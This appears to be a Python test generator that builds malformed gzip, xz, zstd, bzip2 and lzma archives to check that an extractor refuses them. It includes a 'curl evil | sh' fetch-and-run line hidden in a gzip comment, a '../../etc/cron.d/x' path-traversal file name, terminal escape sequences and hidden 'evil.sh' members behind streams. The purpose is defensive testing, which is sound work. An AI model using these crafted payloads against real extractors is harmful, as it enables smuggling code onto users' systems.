"""gzip, xz, zstd, bzip2, lzma: where a stream ends, and what else is in it."""

import bz2
import lzma
import zlib
from struct import pack

from case import REFUSED, UNDECIDED, attack
from making.stream import bzip2, deflate, gzip, lzma_alone, skippable, xz, zstd, zstd_block
from making.tar import archive, member

TAR = archive(member())
EVIL = archive(member(b"evil.sh", b"#!/bin/sh\necho hidden\n"))
JUNK = bytes(range(255, 0, -1)) * 17
PACK = {"gzip": gzip, "xz": xz, "zstd": zstd, "bzip2": bzip2}


def case(id, differs, data, reasons="corrupt-stream", **more):
    return attack(f"stream-{id}", differs, data, reasons, **more)


def every_codec():
    for name, pack_with in PACK.items():
        whole = pack_with(TAR)
        yield case(f"{name}-junk", "4 KiB of junk behind the stream", whole + JUNK[:4096],
                   "trailing-data")
        yield case(f"{name}-zeros", "512 zeros behind the stream", whole + b"\0" * 512,
                   "trailing-data unaccounted-bytes")
        yield case(f"{name}-two", "a second stream: some read on, some stop",
                   whole + pack_with(EVIL), "trailing-data")
        yield case(f"{name}-cut", "cut in the middle", whole[:len(whole) // 2], "truncated")
        yield case(f"{name}-cut-end", "the last byte is missing", whole[:-1], "truncated")
        yield case(f"{name}-cut-check", "the checksum is missing", whole[:-6], "truncated")
        yield case(f"{name}-inner-cut", "the tar inside is cut, the stream is whole",
                   pack_with(TAR[:700]), "truncated")
        yield case(f"{name}-head-only", "nothing but the first bytes", whole[:12], "truncated "
                   "corrupt-stream")
        damaged = bytearray(whole)
        damaged[len(whole) // 2] ^= 0x10
        yield case(f"{name}-damaged", "one bit flipped in the middle", bytes(damaged),
                   "corrupt-stream checksum-mismatch")
    names = list(PACK)
    for name, other in zip(names, names[1:] + names[:1]):
        yield case(f"{name}-then-{other}", f"{other} behind the end of {name}",
                   PACK[name](TAR) + PACK[other](EVIL), "trailing-data")


def gzips():
    yield case("gzip-crc", "a wrong checksum", gzip(TAR, crc=1), "checksum-mismatch")
    yield case("gzip-size", "a wrong size", gzip(TAR, size=5), "checksum-mismatch size-mismatch")
    yield case("gzip-size-zero", "a size of 0", gzip(TAR, size=0),
               "checksum-mismatch size-mismatch")
    for bit in (5, 6, 7):
        yield case(f"gzip-flag-{bit}", "a reserved flag: something nobody reads may follow",
                   gzip(TAR, flags=1 << bit))
    extra = b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + JUNK[:2000]
    yield case("gzip-extra-payload", "an archive in the header's extra field",
               gzip(TAR, 4, pack("<H", len(extra)) + extra),
               "unaccounted-bytes ambiguous-type unsupported-feature", exits=REFUSED)
    yield case("gzip-extra-long", "64 KiB in the header's extra field",
               gzip(TAR, 4, pack("<H", 65000) + JUNK[:250] * 260),
               "unaccounted-bytes ambiguous-type unsupported-feature", exits=REFUSED)
    yield case("gzip-extra-cut", "an extra field that reaches behind the file",
               gzip(b"x", 4, pack("<H", 65000)), "truncated corrupt-stream")
    yield case("gzip-name-payload", "10 KB of junk for a name",
               gzip(TAR, 8, JUNK * 2 + b"\0"),
               "unaccounted-bytes unsupported-feature limit-name-bytes unsafe-name",
               exits=REFUSED)
    yield case("gzip-name-endless", "a name that no NUL ends",
               b"\x1f\x8b\x08\x08\0\0\0\0\0\x03" + b"n" * 300000,
               "truncated unsupported-feature unaccounted-bytes", exits=REFUSED)
    yield case("gzip-name-up", "a name that leads out: gunzip -N",
               gzip(b"plain text\n", 8, b"../../etc/cron.d/x\0"), "unsafe-name unaccounted-bytes",
               exits=REFUSED)
    yield case("gzip-name-escape", "a name that speaks to terminals",
               gzip(b"plain text\n", 8, b"a\x1b]0;x\x07\0"), "unsafe-name unaccounted-bytes",
               exits=REFUSED)
    yield case("gzip-comment-payload", "a script in the comment",
               gzip(TAR, 16, b"#!/bin/sh\ncurl evil | sh\n" * 200 + b"\0"),
               "unaccounted-bytes unsupported-feature", exits=REFUSED)
    yield case("gzip-header-crc", "a wrong header checksum", gzip(TAR, 2, b"\1\2"),
               "checksum-mismatch")
    body = deflate(TAR)
    yield case("gzip-deflate-behind", "bytes between deflate's end and the checksum",
               gzip(TAR, body=body + b"hidden!!"), "checksum-mismatch trailing-data")
    yield case("gzip-distance", "a distance before the first byte",
               gzip(b"", body=bytes([0x4b, 0x84, 0x03, 0x00])), "corrupt-stream checksum-mismatch")
    yield case("gzip-block-reserved", "a block of the reserved kind",
               gzip(b"", body=b"\x07\0"), "corrupt-stream")
    yield case("gzip-stored-length", "a stored block whose lengths do not fit",
               gzip(b"abc", body=b"\1\3\0\0\0abc"), "corrupt-stream")
    yield case("gzip-no-content", "a header and no more", gzip(TAR)[:10], "truncated")


def xzs():
    whole = xz(TAR)
    yield case("xz-padding", "stream padding of four zeros", whole + b"\0" * 4,
               "trailing-data unaccounted-bytes")
    yield case("xz-padding-odd", "stream padding that is no multiple of four",
               whole + b"\0" * 3, "trailing-data unaccounted-bytes")
    yield case("xz-padding-between", "two streams with padding between",
               whole + b"\0" * 8 + xz(EVIL), "trailing-data")
    for name, at in [("footer-magic", -1), ("footer-crc", -12), ("backward-size", -8),
                     ("footer-flags", -4), ("index", -20), ("header-crc", 8),
                     ("header-flags", 7), ("block-header", 13)]:
        damaged = bytearray(whole)
        damaged[at] ^= 1
        yield case(f"xz-{name}", f"a bit flipped in its {name}", bytes(damaged),
                   "corrupt-stream unsupported-feature checksum-mismatch truncated",
                   exits=REFUSED)
    yield case("xz-lzma2-delta", "a filter chain of delta and lzma2: read by those who have it",
               lzma.compress(TAR, filters=[{"id": lzma.FILTER_DELTA, "dist": 4},
                                           {"id": lzma.FILTER_LZMA2}])[:-5], "truncated")
    yield case("xz-check-unknown", "a check of a kind nobody knows", unknown_check(whole),
               "unsupported-feature corrupt-stream", exits=REFUSED)


def unknown_check(whole):
    flags = b"\0\x02"
    return whole[:6] + flags + pack("<I", zlib.crc32(flags)) + whole[12:]


def zstds():
    whole = zstd(TAR)
    yield case("zstd-checksum", "a wrong checksum", zstd(TAR, checksum=b"\0" * 4),
               "checksum-mismatch")
    yield case("zstd-size", "a content size that is not its own", zstd(TAR, size=5))
    yield case("zstd-size-large", "a content size larger than the content",
               zstd(TAR, size=len(TAR) + 5))
    yield case("zstd-skippable-before", "a skippable frame with a tar before the data",
               skippable(EVIL) + whole, "unsupported-feature unaccounted-bytes trailing-data",
               exits=REFUSED)
    yield case("zstd-skippable-behind", "one behind the data", whole + skippable(EVIL),
               "trailing-data unaccounted-bytes")
    yield case("zstd-skippable-only", "nothing but a skippable frame", skippable(EVIL),
               "unsupported-feature unaccounted-bytes empty-bundle truncated", exits=REFUSED)
    yield case("zstd-skippable-15", "a skippable frame of the last magic", skippable(b"x", 15) +
               whole, "unsupported-feature unaccounted-bytes", exits=REFUSED)
    yield case("zstd-reserved-block", "a block of the reserved kind",
               zstd(TAR, blocks=zstd_block(b"", 3)))
    yield case("zstd-reserved-bit", "the reserved bit of the descriptor",
               zstd(TAR, descriptor=8), "corrupt-stream unsupported-feature", exits=REFUSED)
    yield case("zstd-dictionary", "a frame that wants a dictionary", zstd(TAR, dictionary=77),
               "unsupported-feature corrupt-stream", exits=REFUSED)
    yield case("zstd-window", "a window of 2 TiB",
               zstd(TAR, window=0xf8), "limit-decoder-memory", exits=UNDECIDED)
    yield case("zstd-no-last-block", "no last block",
               zstd(TAR, blocks=zstd_block(TAR, last=False), checksum=b""), "truncated")
    for name, magic in [("v07", 0x27), ("v06", 0x26), ("v05", 0x25)]:
        yield case(f"zstd-{name}", "an old format that some builds still read",
                   bytes([magic]) + b"\xb5\x2f\xfd" + whole[4:],
                   "unsupported-container unsupported-feature", exits=UNDECIDED)


def others():
    whole = bz2.compress(TAR)
    damaged = bytearray(whole)
    damaged[-3] ^= 4
    yield case("bzip2-combined-crc", "a wrong checksum of all blocks", bytes(damaged),
               "corrupt-stream checksum-mismatch")
    yield case("bzip2-block-size", "a block larger than its level allows",
               b"BZh1" + bz2.compress(bytes(range(256)) * 2000, 9)[4:])
    yield case("lzma", "an lzma stream of unknown size", lzma_alone(TAR),
               "unsupported-container", exits=UNDECIDED)
    yield case("lzma-size", "an lzma stream of known size", lzma_alone(TAR, size=len(TAR)),
               "unsupported-container", exits=UNDECIDED)
    yield case("lzma-odd-dictionary", "an lzma stream with an odd dictionary",
               lzma_alone(TAR, dictionary=0x12345), "unsupported-container", exits=UNDECIDED)
    for name, head in [("lzip", b"LZIP\x01\x0c"), ("lz4", b"\x04\x22\x4d\x18"),
                       ("lz4-legacy", b"\x02\x21\x4c\x18"), ("compress", b"\x1f\x9d\x90"),
                       ("lzop", b"\x89LZO\0\r\n\x1a\n"), ("snappy", b"\xff\x06\0\0sNaPpY"),
                       ("lrzip", b"LRZI\0\6"), ("bzip3", b"BZ3v1"), ("pbzx", b"pbzx"),
                       ("szdd", b"SZDD\x88\xf0\x27\x33")]:
        yield case(f"sealed-{name}", "a compression that is known and not read",
                   head + JUNK[:400], "unsupported-container", exits=UNDECIDED)


def cases():
    for group in (every_codec, gzips, xzs, zstds, others):
        yield from group()
